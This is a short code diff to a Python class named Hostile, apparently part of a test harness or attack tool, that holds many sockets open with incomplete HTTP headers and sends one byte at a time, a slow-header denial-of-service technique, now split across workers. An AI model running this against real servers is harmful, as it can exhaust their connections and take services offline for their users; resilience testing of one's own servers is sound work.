@@ -51,9 +51,9 @@ class Hostile:
             await loop.sock_sendall(line, b"GET /signal HTTP/1.1\r\nHost: x\r\nX-Slow: ")
             self.slow.append(line)
 
-    def dribble_on(self) -> None:
-        """One byte more on each."""
-        for line in self.slow:
+    def dribble_on(self, share: int, of: int) -> None:
+        """One byte more on every `of`-th: they do not know of each other."""
+        for line in self.slow[share % of :: of]:
             try:
                 line.send(b"a")
             except OSError:  # it was closed: the attack is over for this one
